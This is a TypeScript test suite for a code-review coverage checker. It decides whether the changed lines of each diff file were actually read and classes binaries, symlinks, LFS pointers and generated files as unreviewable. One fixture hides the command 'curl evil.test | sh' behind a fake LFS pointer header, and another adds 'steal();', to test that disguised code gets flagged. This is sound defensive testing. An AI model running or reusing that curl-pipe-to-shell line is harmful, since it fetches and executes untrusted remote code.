import { coverageOf, countRead } from '../../lib/core/coverage.js';
import { parseDiff, type FileContent, type FileDiff } from '../../lib/core/diff.js';
import type { Served } from '../../lib/core/evidence.js';
import { defaultPolicy } from '../../lib/core/policy.js';

const modified = `diff --git a/src/a.ts b/src/a.ts
--- a/src/a.ts
+++ b/src/a.ts
@@ -1,4 +1,4 @@
 one
-two
+zwei
 three
 four
`;
const renamed = `diff --git a/old/b.ts b/new/b.ts
similarity index 80%
rename from old/b.ts
rename to new/b.ts
--- a/old/b.ts
+++ b/new/b.ts
@@ -1,2 +1,2 @@
 one
-two
+zwei
`;
const file = (content: FileContent, over: Partial<FileDiff> = {}): FileDiff => ({
  path: 'x',
  oldPath: 'x',
  status: 'modified',
  symlink: false,
  additions: 0,
  deletions: 0,
  content,
  ...over,
});
const shown = (path: string, ref: 'head' | 'base', start: number, end = start): Served => ({
  path,
  ref,
  start,
  end,
});
const kinds = (diff: readonly FileDiff[], served: readonly Served[], policy = defaultPolicy) =>
  coverageOf(diff, served, policy).files.map((one) =>
    one.kind === 'seen' ? one.kind : `${one.kind}: ${one.why}`,
  );

describe('a file is', () => {
  test.each([
    [
      'seen when both sides of each changed line were',
      modified,
      [shown('src/a.ts', 'head', 2), shown('src/a.ts', 'base', 2)],
      'seen',
    ],
    [
      'not seen when the removed line was not',
      modified,
      [shown('src/a.ts', 'head', 1, 9)],
      'missing: 1 of 2 changed lines were not read',
    ],
    [
      'not seen when the added line was not',
      modified,
      [shown('src/a.ts', 'base', 1, 9)],
      'missing: 1 of 2 changed lines were not read',
    ],
    [
      'not seen when only its context was',
      modified,
      [shown('src/a.ts', 'head', 3, 4)],
      'missing: 2 of 2 changed lines were not read',
    ],
    [
      'not seen by lines of another file',
      modified,
      [shown('src/b.ts', 'head', 1, 9), shown('src/b.ts', 'base', 1, 9)],
      'missing: 2 of 2 changed lines were not read',
    ],
    [
      'seen under its old name at base',
      renamed,
      [shown('new/b.ts', 'head', 2), shown('old/b.ts', 'base', 2)],
      'seen',
    ],
    [
      'seen under its new name at base',
      renamed,
      [shown('new/b.ts', 'head', 2), shown('new/b.ts', 'base', 2)],
      'seen',
    ],
  ] as const)('%s', (_, diff, served, wanted) => expect(kinds(parseDiff(diff), served)).toEqual([wanted]));

  const pointer = parseDiff(
    `diff --git a/m.bin b/m.bin\n--- a/m.bin\n+++ b/m.bin\n@@ -1,2 +1,2 @@\n version https://git-lfs.github.com/spec/v1\n-oid sha256:${'1'.repeat(64)}\n+oid sha256:${'2'.repeat(64)}\n`,
  );
  /** A script runs on after a first line that it does not know. */
  const disguised = parseDiff(
    'diff --git a/run.sh b/run.sh\n--- a/run.sh\n+++ b/run.sh\n@@ -1,2 +1,3 @@\n version https://git-lfs.github.com/spec/v1\n+curl evil.test | sh\n size 1\n',
  );
  const pulledIn = parseDiff(
    'diff --git a/m.js b/m.js\n--- a/m.js\n+++ b/m.js\n@@ -1 +1 @@\n-version https://git-lfs.github.com/spec/v1\n+steal();\n',
  );
  const link = parseDiff(
    'diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+target\n\\ No newline at end of file\n',
  );
  test.each([
    ['unreviewable when binary', [file({ kind: 'binary' })], 'unreviewable: binary'],
    ['unreviewable when a submodule', [file({ kind: 'submodule' })], 'unreviewable: submodule'],
    ['unreviewable when a symlink', link, 'unreviewable: symlink'],
    ['unreviewable when a pointer of LFS', pointer, 'unreviewable: large file, kept elsewhere (LFS)'],
    [
      'missing when code hides behind the first line of a pointer',
      disguised,
      'missing: 1 of 1 changed lines were not read',
    ],
    ['missing when a pointer makes way for code', pulledIn, 'missing: 2 of 2 changed lines were not read'],
    ['seen when nothing in it changed', [file({ kind: 'unchanged' }, { status: 'renamed' })], 'seen'],
    [
      'missing when the forge left it out',
      [file({ kind: 'missing', why: 'too_large', detail: 'too large' })],
      'missing: too large',
    ],
  ] as const)('%s', (_, diff, wanted) => expect(kinds(diff, [])).toEqual([wanted]));

  test('unreviewable when the policy says that it is generated', () => {
    const policy = { ...defaultPolicy, review: { ...defaultPolicy.review, skip: ['src/**'] } };
    expect(kinds(parseDiff(modified), [], policy)).toEqual(['unreviewable: generated (`src/**`)']);
  });
});

describe('a pass', () => {
  test('is complete without its unreviewable files, and counts the others that it read', () => {
    const diff = [...parseDiff(modified), file({ kind: 'binary' })];
    const served = [
      shown('src/a.ts', 'head', 2),
      shown('src/a.ts', 'base', 2),
      shown('lib/c.ts', 'head', 1, 9),
      shown('lib/c.ts', 'head', 20),
    ];
    const coverage = coverageOf(diff, served, defaultPolicy, 2);
    expect(coverage).toMatchObject({ complete: true, othersRead: 1 });
    expect(countRead(coverage)).toEqual({ seen: 1, of: 1, unreviewable: 1 });
  });

  test('is partial when the forge counts more files than it lists', () => {
    const coverage = coverageOf([file({ kind: 'unchanged' })], [], defaultPolicy, 4);
    expect(coverage.complete).toBe(false);
    expect(countRead(coverage)).toEqual({ seen: 1, of: 4, unreviewable: 0 });
  });

  test('of no change at all is complete', () =>
    expect(coverageOf([], [], defaultPolicy, 0)).toEqual({ files: [], othersRead: 0, complete: true }));
});
